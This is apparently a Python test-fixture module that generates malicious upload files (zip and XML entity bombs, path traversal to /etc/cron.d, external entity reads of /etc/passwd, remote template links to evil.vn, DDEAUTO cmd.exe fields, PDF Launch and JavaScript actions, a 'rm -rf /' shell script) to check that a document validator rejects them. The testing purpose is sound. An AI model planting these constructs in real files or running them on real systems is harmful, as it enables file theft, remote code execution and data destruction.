"""Files of strangers, made while the tests run: none is stored, and no bomb is ever whole on a disk.

Honest ones first (`docx`, `xlsx`, `pdf`, `picture`), then HOSTILE: name → (name of the file, bytes, beginning of the sentence).
"""

import io
import struct
import zipfile
import zlib
from collections.abc import Callable, Iterable
from dataclasses import dataclass

import docx as python_docx
import openpyxl
import typst
from PIL import Image, PngImagePlugin
from pypdf import PdfWriter
from pypdf.generic import (
    ArrayObject,
    DictionaryObject,
    NameObject,
    NumberObject,
    StreamObject,
    TextStringObject,
)

Parts = dict[str, bytes]
WORD_MAIN = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
SHEET_MAIN = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
CFB = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 504


# --- honest files -------------------------------------------------------------------------------------------------
def docx(*paragraphs: str, header: str = "", footer: str = "", title: str = "", keywords: str = "") -> bytes:
    document = python_docx.Document()
    for words in paragraphs or ("Báo cáo kết quả quý II",):
        document.add_paragraph(words)
    section = document.sections[0]
    if header:
        section.header.paragraphs[0].text = header
    if footer:
        section.footer.paragraphs[0].text = footer
    document.core_properties.title = title
    document.core_properties.keywords = keywords
    target = io.BytesIO()
    document.save(target)
    return target.getvalue()


def xlsx(*rows: Iterable[object], sheet: str = "Biểu 1", header: str = "") -> bytes:
    workbook = openpyxl.Workbook()
    page = workbook.active
    assert page is not None
    page.title = sheet
    for row in rows or (("Đơn vị", "Số"), ("Đảng bộ A", 12)):
        page.append(list(row))
    if header:
        page.oddHeader.center.text = header
    target = io.BytesIO()
    workbook.save(target)
    return target.getvalue()


def pdf(*pages: str, about: dict[str, str] | None = None) -> bytes:
    """Each page a few lines, in a font that writes Vietnamese."""
    fonts = "\n#pagebreak()\n".join(
        " \\\n".join(f'#"{line}"' for line in (page or " ").splitlines()) for page in pages or ("Báo cáo",)
    )
    title = f'#set document(title: "{about["Title"]}")\n' if about and "Title" in about else ""
    return typeset(title + fonts)


def typeset(source: str) -> bytes:
    made: bytes = typst.compile(f'#set text(font: "Libertinus Serif")\n{source}'.encode())
    return made


def picture(kind: str = "PNG", size: tuple[int, int] = (40, 30), **options: object) -> bytes:
    target = io.BytesIO()
    Image.new("RGB", size, (180, 20, 20)).save(target, kind, **options)
    return target.getvalue()


def parts_of(raw: bytes) -> Parts:
    with zipfile.ZipFile(io.BytesIO(raw)) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def zipped(parts: Parts, method: int = zipfile.ZIP_DEFLATED) -> bytes:
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w", method) as archive:
        for name, content in parts.items():
            archive.writestr(name, content)
    return target.getvalue()


def changed(raw: bytes, **replaced: tuple[str, bytes, bytes]) -> bytes:
    """An Office file with bytes of some parts replaced: changed(raw, any_name=(part, old, new))."""
    parts = parts_of(raw)
    for part, old, new in replaced.values():
        assert old in parts[part], (part, old)
        parts[part] = parts[part].replace(old, new)
    return zipped(parts)


def added(raw: bytes, **more: tuple[str, bytes]) -> bytes:
    return zipped(parts_of(raw) | dict(more.values()))


def with_relation(raw: bytes, part: str, kind: str, target: str, *, external: bool = True) -> bytes:
    mode = ' TargetMode="External"' if external else ""
    link = (
        f'<Relationship Id="rX1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/{kind}"'
        f' Target="{target}"{mode}/></Relationships>'
    )
    return changed(raw, link=(part, b"</Relationships>", link.encode()))


# --- bombs and other archives -------------------------------------------------------------------------------------
def cell_at(place: str, value: str = "1") -> bytes:
    row = "".join(letter for letter in place if letter.isdigit())
    cell = f'<row r="{row}"><c r="{place}"><v>{value}</v></c></row></sheetData>'
    return changed(xlsx(("A",)), cell=("xl/worksheets/sheet1.xml", b"</sheetData>", cell.encode()))


def many_implied_rows(rows: int) -> bytes:
    """Rows and cells that say no place: readers count."""
    body = b"<row><c><v>1</v></c></row>" * rows
    return changed(xlsx(("A",)), rows=("xl/worksheets/sheet1.xml", b"</sheetData>", body + b"</sheetData>"))


def inflating_bomb(megabytes: int) -> bytes:
    """A sheet of spaces: 1,000 times smaller packed."""
    return added(xlsx(), bomb=("xl/worksheets/sheet9.xml", b" " * (megabytes * 1024 * 1024)))


def understated_bomb(raw: bytes, name: str) -> bytes:
    """A part that holds 8 MB and whose directory says 100 bytes."""
    parts = parts_of(raw)
    parts[name] = b" " * (8 * 1024 * 1024)
    packed = bytearray(zipped(parts))
    true_size = struct.pack("<I", 8 * 1024 * 1024)
    return bytes(packed.replace(true_size, struct.pack("<I", 100)))


def overlapping() -> bytes:
    """Two names for one stretch of bytes, as the best bombs have."""
    packed = bytearray(zipped(parts_of(xlsx()) | {"xl/b1.xml": b"<a/>" * 50, "xl/b2.xml": b"<a/>" * 50}))
    first = packed.find(b"PK\x01\x02")
    offsets = []
    while first >= 0:
        length = struct.unpack("<H", packed[first + 28 : first + 30])[0]
        name = bytes(packed[first + 46 : first + 46 + length])
        offsets.append((name, first))
        first = packed.find(b"PK\x01\x02", first + 46)
    places = dict(offsets)
    source, target = places[b"xl/b1.xml"], places[b"xl/b2.xml"]
    packed[target + 42 : target + 46] = packed[source + 42 : source + 46]
    return bytes(packed)


def with_entry(name: str, *, link: bool = False) -> bytes:
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as archive:
        for part, content in parts_of(docx()).items():
            archive.writestr(part, content)
        entry = zipfile.ZipInfo(name)
        entry.external_attr = (0o120777 if link else 0o100644) << 16
        archive.writestr(entry, b"/etc/passwd")
    return target.getvalue()


def encrypted_entry() -> bytes:
    packed = bytearray(zipped(parts_of(docx())))
    at = packed.find(b"PK\x01\x02")
    packed[at + 8] |= 1
    return bytes(packed)


def strange_method() -> bytes:
    return zipped(parts_of(docx()), zipfile.ZIP_LZMA)


def twice_the_same_name() -> bytes:
    parts = parts_of(docx())
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w") as archive:
        for name, content in parts.items():
            archive.writestr(name, content)
        import warnings

        with warnings.catch_warnings():
            warnings.simplefilter("ignore")
            archive.writestr("word/document.xml", parts["word/document.xml"])
    return target.getvalue()


def declaration(coding: str = "utf-8", text: str = '<!DOCTYPE d [<!ENTITY a "aaaaaaaaaa">]>') -> bytes:
    body = f'<?xml version="1.0" encoding="{coding}"?>{text}<d/>'.encode(coding)
    return added(docx(), part=("word/extra.xml", body))


def bomb_of_entities() -> bytes:
    steps = "".join(f'<!ENTITY e{n} "{f"&e{n - 1};" * 10}">' for n in range(1, 10))
    head = f'<!DOCTYPE x [<!ENTITY e0 "ha">{steps}]>'.encode()
    return changed(
        xlsx(),
        bomb=("xl/worksheets/sheet1.xml", b"<worksheet", head + b"<worksheet"),
    )


def outside_entity() -> bytes:
    parts = parts_of(docx())
    head, body = parts["word/document.xml"].split(b"?>", 1)
    entity = b'<!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
    parts["word/document.xml"] = head + b"?>" + entity + body.replace("Báo".encode(), b"&x;")
    return zipped(parts)


def typed(raw: bytes, kind: str) -> bytes:
    main = WORD_MAIN if b"wordprocessingml" in parts_of(raw)["[Content_Types].xml"] else SHEET_MAIN
    return changed(raw, kind=("[Content_Types].xml", main.encode(), kind.encode()))


# --- PDF ----------------------------------------------------------------------------------------------------------
def written(writer: PdfWriter) -> bytes:
    target = io.BytesIO()
    writer.write(target)
    return target.getvalue()


def blank_pages(count: int) -> PdfWriter:
    writer = PdfWriter()
    for _page in range(count):
        writer.add_blank_page(200, 200)
    return writer


def pdf_with_root(**entries: DictionaryObject) -> bytes:
    writer = blank_pages(1)
    for name, value in entries.items():
        writer.root_object[NameObject(f"/{name}")] = writer._add_object(value)
    return written(writer)


def acting(kind: str, **more: object) -> DictionaryObject:
    made = DictionaryObject({NameObject("/S"): NameObject(f"/{kind}")})
    for name, value in more.items():
        made[NameObject(f"/{name}")] = TextStringObject(str(value))
    return made


def pdf_with_script() -> bytes:
    writer = blank_pages(1)
    names = DictionaryObject(
        {NameObject("/Names"): ArrayObject([TextStringObject("a"), acting("JavaScript", JS="x")])}
    )
    writer.root_object[NameObject("/Names")] = DictionaryObject({NameObject("/JavaScript"): names})
    return written(writer)


def pdf_with_attachment() -> bytes:
    writer = blank_pages(1)
    writer.add_attachment("a.exe", b"MZ")
    return written(writer)


def pdf_locked(password: str) -> bytes:
    writer = blank_pages(1)
    writer.encrypt(password, owner_password="chu", algorithm="RC4-128")
    return written(writer)


def pdf_with_note(subtype: str, **more: str) -> bytes:
    writer = blank_pages(1)
    note = DictionaryObject(
        {
            NameObject("/Type"): NameObject("/Annot"),
            NameObject("/Subtype"): NameObject(f"/{subtype}"),
            NameObject("/Rect"): ArrayObject([NumberObject(n) for n in (0, 0, 10, 10)]),
        }
    )
    for name, value in more.items():
        note[NameObject(f"/{name}")] = NameObject(value) if value.startswith("/") else TextStringObject(value)
    writer.pages[0][NameObject("/Annots")] = ArrayObject([writer._add_object(note)])
    return written(writer)


def pdf_with_field_script() -> bytes:
    writer = blank_pages(1)
    page = writer.pages[0]
    page[NameObject("/AA")] = DictionaryObject({NameObject("/O"): acting("JavaScript", JS="x")})
    return written(writer)


def pdf_with_form_of_xml() -> bytes:
    stream = StreamObject()
    stream.set_data(b"<xdp/>")
    writer = blank_pages(1)
    form = DictionaryObject({NameObject("/XFA"): writer._add_object(stream)})
    writer.root_object[NameObject("/AcroForm")] = writer._add_object(form)
    return written(writer)


# --- pictures -----------------------------------------------------------------------------------------------------
def png_of_size(width: int, height: int) -> bytes:
    """A header that says so, and a few bytes behind it."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    head = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", head)
        + chunk(b"IDAT", zlib.compress(b"\0" * 100))
        + chunk(b"IEND", b"")
    )


def moving(kind: str, frames: int = 30) -> bytes:
    pictures = [Image.new("RGB", (8, 8), (n % 250, 0, 0)) for n in range(frames)]
    target = io.BytesIO()
    pictures[0].save(target, kind, save_all=True, append_images=pictures[1:])
    return target.getvalue()


def photographed(words: str = "10,5") -> bytes:
    """A JPEG taken on its side, with a place and a comment."""
    target = io.BytesIO()
    exif = Image.Exif()
    exif[0x0112] = 6
    exif[0x010E] = words
    exif.get_ifd(0x8825)[1] = "N"
    Image.new("RGB", (40, 30), (10, 90, 20)).save(target, "JPEG", exif=exif, comment=words.encode())
    return target.getvalue()


def png_with_words(words: str) -> bytes:
    about = PngImagePlugin.PngInfo()
    about.add_text("Comment", words)
    return picture("PNG", pnginfo=about)


# --- the corpus ---------------------------------------------------------------------------------------------------
UNSAFE = "Tệp có cấu trúc không an toàn nên không nhận."
BROKEN = "Tệp bị hỏng, không đọc được."
CUT = "Tệp tải lên chưa trọn vẹn."
UNPACKED = "Tệp sau khi giải nén quá lớn (giới hạn 100 MB)."
MACRO = "Không nhận tệp có macro hoặc có mật khẩu."
OLD = "Không nhận tệp Word, Excel kiểu cũ (.doc, .xls)."
EMBEDDED = "Tệp có nhúng một tệp hoặc chương trình khác nên không nhận."
EXTERNAL = "Tệp có liên kết lấy nội dung từ nơi khác nên không nhận."
ACTING = "Tệp PDF có mã lệnh hoặc biểu mẫu tự chạy nên không nhận."
ENCLOSED = "Tệp PDF có tệp khác đính kèm bên trong nên không nhận."
EMPTY = "Tệp trống, không có nội dung."
NOT_PDF = "Nội dung tệp không phải PDF."
NOT_WORD = "Nội dung tệp không phải Word (.docx)."
NOT_CSV = "Nội dung tệp không phải CSV."
NO_PICTURE = "Chỉ nhận ảnh JPG, PNG, WebP."
OTHER_OFFICE = "Nội dung tệp không phải Word hoặc Excel thường."


@dataclass(frozen=True)
class Hostile:
    """A row's builder. `row` is the row of the catalogue."""

    row: str
    file_name: str
    build: Callable[[], bytes]
    sentence: str


def _outside(cell: str) -> str:
    return f"Trang tính «Biểu 1» có dữ liệu ở ô {cell}, ngoài vùng biểu mẫu."


RELS = "word/_rels/document.xml.rels"
BOOK_RELS = "xl/_rels/workbook.xml.rels"

HOSTILE: dict[str, Hostile] = {
    "bomb_of_300_mb": Hostile("b01", "a.xlsx", lambda: inflating_bomb(300), UNPACKED),
    "bomb_by_ratio": Hostile("b01", "a.xlsx", lambda: inflating_bomb(60), UNPACKED),
    "bomb_in_word": Hostile(
        "b01",
        "a.docx",
        lambda: added(docx(), b=("word/x.xml", b" " * 70 * 1024 * 1024)),
        "Tệp sau khi giải nén quá lớn",
    ),
    "bomb_that_understates": Hostile(
        "b01", "a.xlsx", lambda: understated_bomb(xlsx(), "xl/theme/theme1.xml"), UNSAFE
    ),
    "bomb_of_overlaps": Hostile("b01", "a.xlsx", overlapping, UNSAFE),
    "zip_in_zip": Hostile(
        "b01", "a.docx", lambda: added(docx(), z=("word/x.bin", zipped({"a": b"b"}))), UNSAFE
    ),
    "rar_in_zip": Hostile(
        "b01", "a.docx", lambda: added(docx(), z=("word/x.bin", b"Rar!\x1a\x07\0")), UNSAFE
    ),
    "ten_thousand_parts": Hostile(
        "b01",
        "a.docx",
        lambda: zipped(parts_of(docx()) | {f"word/p{n}.xml": b"<a/>" for n in range(600)}),
        "Tệp có quá nhiều phần bên trong (tối đa 500).",
    ),
    "cell_at_the_end": Hostile("b02", "a.xlsx", lambda: cell_at("XFD1048576"), _outside("XFD1048576")),
    "cell_below": Hostile("b02", "a.xlsx", lambda: cell_at("A10001"), _outside("A10001")),
    "cell_beside": Hostile("b02", "a.xlsx", lambda: cell_at("GS1"), _outside("GS1")),
    "rows_that_say_no_place": Hostile("b02", "a.xlsx", lambda: many_implied_rows(10_000), _outside("A10001")),
    "cell_with_a_false_place": Hostile("b02", "a.xlsx", lambda: cell_at("AAAA1"), BROKEN),
    "too_many_sheets": Hostile(
        "b02", "a.xlsx", lambda: _sheets(21), "Tệp Excel có quá nhiều trang tính (tối đa 20)."
    ),
    "csv_too_wide": Hostile(
        "b02",
        "a.csv",
        lambda: b",".join([b"a"] * 201),
        "Trang tính «CSV» có dữ liệu ở ô GS1, ngoài vùng biểu mẫu.",
    ),
    "csv_too_long": Hostile(
        "b02",
        "a.csv",
        lambda: b"a\n" * 10_001,
        "Trang tính «CSV» có dữ liệu ở ô A10001, ngoài vùng biểu mẫu.",
    ),
    "entities": Hostile("b03", "a.xlsx", bomb_of_entities, UNSAFE),
    "declaration": Hostile("b03", "a.docx", declaration, UNSAFE),
    "declaration_in_utf16": Hostile("b03", "a.docx", lambda: declaration("utf-16"), UNSAFE),
    "declaration_in_utf16_be": Hostile("b03", "a.docx", lambda: declaration("utf-16-be"), UNSAFE),
    "strange_encoding": Hostile("b03", "a.docx", lambda: declaration("utf-7", ""), UNSAFE),
    "declaration_over_a_chunk": Hostile(
        "b03", "a.docx", lambda: added(docx(), p=("word/x.xml", b" " * 65_530 + b"<!DOCTYPE a>")), UNSAFE
    ),
    "outside_entity": Hostile("b04", "a.docx", outside_entity, UNSAFE),
    "macro_word": Hostile(
        "b07",
        "a.docm",
        lambda: typed(docx(), "application/vnd.ms-word.document.macroEnabled.main+xml"),
        MACRO,
    ),
    "macro_excel_called_xlsx": Hostile(
        "b07", "a.xlsx", lambda: typed(xlsx(), "application/vnd.ms-excel.sheet.macroEnabled.main+xml"), MACRO
    ),
    "binary_excel": Hostile(
        "b07",
        "a.xlsb",
        lambda: typed(xlsx(), "application/vnd.ms-excel.sheet.binary.macroEnabled.main"),
        MACRO,
    ),
    "macro_part": Hostile("b07", "a.docx", lambda: added(docx(), v=("word/vbaProject.bin", CFB)), MACRO),
    "macro_part_of_another_name": Hostile(
        "b07", "a.docx", lambda: added(docx(), v=("word/x.bin", CFB)), EMBEDDED
    ),
    "macro_sheet": Hostile(
        "b07", "a.xlsx", lambda: added(xlsx(), v=("xl/macrosheets/sheet1.xml", b"<a/>")), MACRO
    ),
    "old_word": Hostile("b07", "a.doc", lambda: CFB, OLD),
    "old_excel_called_xlsx": Hostile("b07", "a.xlsx", lambda: CFB, OLD),
    "locked_office": Hostile("b07", "a.xlsx", lambda: CFB + "EncryptedPackage".encode("utf-16-le"), MACRO),
    "locked_zip": Hostile("b07", "a.docx", encrypted_entry, MACRO),
    "ole_object": Hostile(
        "b07", "a.docx", lambda: added(docx(), o=("word/embeddings/oleObject1.bin", CFB)), EMBEDDED
    ),
    "embedded_workbook": Hostile(
        "b07", "a.docx", lambda: added(docx(), o=("word/embeddings/a.xlsx", b"x")), EMBEDDED
    ),
    "active_x": Hostile(
        "b07", "a.docx", lambda: added(docx(), o=("word/activeX/activeX1.xml", b"<a/>")), EMBEDDED
    ),
    "html_chunk": Hostile("b07", "a.docx", lambda: added(docx(), o=("word/afchunk.mht", b"x")), EMBEDDED),
    "outside_template": Hostile(
        "b07",
        "a.docx",
        lambda: with_relation(docx(), RELS, "attachedTemplate", "http://evil.vn/a.dotm"),
        EXTERNAL,
    ),
    "outside_picture": Hostile(
        "b07", "a.docx", lambda: with_relation(docx(), RELS, "image", "http://evil.vn/a.png"), EXTERNAL
    ),
    "outside_object": Hostile(
        "b07", "a.docx", lambda: with_relation(docx(), RELS, "oleObject", "file:///c:/a.exe"), EMBEDDED
    ),
    "link_to_a_share": Hostile(
        "b07", "a.docx", lambda: with_relation(docx(), RELS, "hyperlink", "\\\\evil\\a"), EXTERNAL
    ),
    "link_to_a_script": Hostile(
        "b07", "a.docx", lambda: with_relation(docx(), RELS, "hyperlink", "javascript:alert(1)"), EXTERNAL
    ),
    "outside_workbook": Hostile(
        "b07",
        "a.xlsx",
        lambda: with_relation(xlsx(), BOOK_RELS, "externalLink", "x.xml", external=False),
        EXTERNAL,
    ),
    "field_that_starts_a_program": Hostile(
        "b07", "a.docx", lambda: _field("DDEAUTO c:\\\\windows\\\\cmd.exe"), EXTERNAL
    ),
    "field_that_fetches": Hostile(
        "b07", "a.docx", lambda: _field('INCLUDEPICTURE "http://evil.vn/a"'), EXTERNAL
    ),
    "html_called_pdf": Hostile("b08", "a.pdf", lambda: b"<!doctype html><script>alert(1)</script>", NOT_PDF),
    "program_called_pdf": Hostile("b08", "a.pdf", lambda: b"MZ" + b"\0" * 200, NOT_PDF),
    "elf_called_word": Hostile("b08", "a.docx", lambda: b"\x7fELF" + b"\0" * 200, NOT_WORD),
    "script_called_csv": Hostile("b08", "a.csv", lambda: b"#!/bin/sh\nrm -rf /\n", NOT_CSV),
    "zip_called_pdf": Hostile("b08", "a.pdf", lambda: zipped({"a": b"b"}), OTHER_OFFICE),
    "zip_called_word": Hostile("b08", "a.docx", lambda: zipped({"a": b"b"}), OTHER_OFFICE),
    "presentation_called_word": Hostile(
        "b08",
        "a.docx",
        lambda: typed(
            docx(), "application/vnd.openxmlformats-officedocument.presentationml.presentation.main+xml"
        ),
        OTHER_OFFICE,
    ),
    "pdf_called_word": Hostile("b08", "a.docx", pdf, "Tên tệp có đuôi .docx nhưng nội dung là PDF."),
    "word_called_excel": Hostile(
        "b08", "a.xlsx", docx, "Tên tệp có đuôi .xlsx nhưng nội dung là Word (.docx)."
    ),
    "picture_called_pdf": Hostile("b08", "a.pdf", picture, "Tên tệp có đuôi .pdf nhưng nội dung là ảnh PNG."),
    "pdf_called_program": Hostile("b08", "a.exe", pdf, "Tên tệp có đuôi .exe nhưng nội dung là PDF."),
    "rar": Hostile(
        "b08", "a.rar", lambda: b"Rar!\x1a\x07\x01\0", "Nội dung tệp không phải PDF, Word (.docx)"
    ),
    "rtf_called_word": Hostile("b08", "a.docx", lambda: b"{\\rtf1 x}", NOT_WORD),
    "zip_behind_a_pdf": Hostile("b08", "a.docx", lambda: b"%PDF-1.4\n" + docx(), CUT),
    "something_before_a_zip": Hostile("b08", "a.docx", lambda: b"PK\x03\x04xx" + docx(), BROKEN),
    "something_behind_a_zip": Hostile("b08", "a.docx", lambda: docx() + b"<script>", BROKEN),
    "pdf_script": Hostile("b08", "a.pdf", pdf_with_script, ACTING),
    "pdf_script_of_a_page": Hostile("b08", "a.pdf", pdf_with_field_script, ACTING),
    "pdf_launch": Hostile(
        "b08", "a.pdf", lambda: pdf_with_root(OpenAction=acting("Launch", F="cmd.exe")), ACTING
    ),
    "pdf_sends_a_form": Hostile(
        "b08", "a.pdf", lambda: pdf_with_root(OpenAction=acting("SubmitForm", F="http://e")), ACTING
    ),
    "pdf_xml_form": Hostile("b08", "a.pdf", pdf_with_form_of_xml, ACTING),
    "pdf_attachment": Hostile("b08", "a.pdf", pdf_with_attachment, ENCLOSED),
    "pdf_attached_by_a_note": Hostile("b08", "a.pdf", lambda: pdf_with_note("FileAttachment"), ENCLOSED),
    "pdf_film": Hostile("b08", "a.pdf", lambda: pdf_with_note("RichMedia"), ENCLOSED),
    "pdf_locked": Hostile("b07", "a.pdf", lambda: pdf_locked("mo"), MACRO),
    "pdf_locked_for_printing": Hostile("b07", "a.pdf", lambda: pdf_locked(""), MACRO),
    "pdf_too_long": Hostile(
        "b08", "a.pdf", lambda: written(blank_pages(201)), "Tệp PDF có 201 trang, tối đa 200."
    ),
    "pdf_without_pages": Hostile("b19", "a.pdf", lambda: b"%PDF-1.4\n%%EOF", BROKEN),
    "picture_bomb": Hostile(
        "b15", "a.png", lambda: png_of_size(30_000, 30_000), "Ảnh quá lớn (tối đa 40 triệu điểm ảnh)."
    ),
    "picture_a_little_too_large": Hostile("b15", "a.png", lambda: png_of_size(8_000, 5_001), "Ảnh quá lớn"),
    "moving_png": Hostile("b15", "a.png", lambda: moving("PNG"), "Không nhận ảnh động."),
    "moving_webp": Hostile("b15", "a.webp", lambda: moving("WEBP"), "Không nhận ảnh động."),
    "gif": Hostile("b16", "a.gif", lambda: picture("GIF"), "Nội dung tệp không phải PDF, Word (.docx)"),
    "svg": Hostile(
        "b16", "a.png", lambda: b"<svg xmlns='http://www.w3.org/2000/svg' onload='x()'/>", NO_PICTURE
    ),
    "svg_behind_xml": Hostile(
        "b16", "a.jpg", lambda: b"\xef\xbb\xbf<?xml version='1.0'?>\n<!-- a --><svg/>", NO_PICTURE
    ),
    "bmp": Hostile("b16", "a.png", lambda: picture("BMP"), NO_PICTURE),
    "tiff": Hostile("b16", "a.jpg", lambda: picture("TIFF"), NO_PICTURE),
    "nothing": Hostile("b19", "a.pdf", lambda: b"", EMPTY),
    "half_a_pdf": Hostile("b19", "a.pdf", lambda: pdf()[:-1500], CUT),
    "half_a_word": Hostile("b19", "a.docx", lambda: docx()[:-1500], BROKEN),
    "half_a_png": Hostile("b19", "a.png", lambda: picture(size=(300, 300))[:-60], BROKEN),
    "half_a_jpeg": Hostile("b19", "a.jpg", lambda: picture("JPEG", (300, 300))[:-60], BROKEN),
    "only_a_head": Hostile("b19", "a.png", lambda: b"\x89PNG\r\n\x1a\n", BROKEN),
    "noise_behind_a_head": Hostile(
        "b19", "a.pdf", lambda: b"%PDF-1.7\n" + bytes(range(256)) * 40 + b"%%EOF", BROKEN
    ),
    "csv_of_bytes": Hostile("b19", "a.csv", lambda: b"a,b\n\xff\xc0", "Tệp CSV không viết bằng mã UTF-8."),
    "csv_with_bells": Hostile("b19", "a.csv", lambda: b"a,\x07b\n", NOT_CSV),
    "wrong_sum": Hostile("b19", "a.docx", lambda: _wrong_sum(), BROKEN),
    "step_up": Hostile("b35", "a.docx", lambda: with_entry("../../etc/cron.d/x"), UNSAFE),
    "absolute": Hostile("b35", "a.docx", lambda: with_entry("/etc/cron.d/x"), UNSAFE),
    "drive": Hostile("b35", "a.docx", lambda: with_entry("C:/x"), UNSAFE),
    "backslash": Hostile("b35", "a.docx", lambda: with_entry("word\\..\\..\\x"), UNSAFE),
    "link_in_the_archive": Hostile("b35", "a.docx", lambda: with_entry("word/x", link=True), UNSAFE),
    "one_name_twice": Hostile("b35", "a.docx", twice_the_same_name, UNSAFE),
    "strange_method": Hostile("b35", "a.docx", strange_method, UNSAFE),
}


# Through the page only one of each kind of refusal is sent; these differ from another only inside the child.
ALIKE = (
    {name for name in HOSTILE if name.startswith(("declaration", "pdf_", "outside_", "half_", "csv_", "macro_"))}
    - {"pdf_script", "declaration", "half_a_png", "macro_word", "outside_picture", "csv_of_bytes"}
)  # fmt: skip


def _sheets(count: int) -> bytes:
    workbook = openpyxl.Workbook()
    for number in range(count - 1):
        workbook.create_sheet(f"Tờ {number}")
    target = io.BytesIO()
    workbook.save(target)
    return target.getvalue()


def _field(instruction: str) -> bytes:
    field = f'<w:p><w:fldSimple w:instr="{instruction.replace(chr(34), "&quot;")}"/></w:p><w:sectPr'
    return changed(docx(), field=("word/document.xml", b"<w:sectPr", field.encode()))


def _wrong_sum() -> bytes:
    packed = bytearray(zipped(parts_of(docx()), zipfile.ZIP_STORED))
    at = packed.find("Báo".encode())
    packed[at] ^= 1
    return bytes(packed)
